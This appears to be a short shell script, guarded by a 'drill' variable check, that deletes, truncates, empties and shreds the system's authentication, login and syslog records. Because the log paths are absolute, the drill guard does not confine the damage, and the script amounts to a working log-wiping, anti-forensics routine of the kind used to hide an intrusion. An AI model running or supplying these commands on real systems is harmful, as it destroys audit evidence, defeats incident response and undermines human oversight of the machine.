cd "${DRILL:?this is for a drill alone}" || exit
rm -f /var/log/auth.log
truncate -s 0 /var/log/wtmp
cp /dev/null /var/log/syslog
shred -u /var/log/btmp
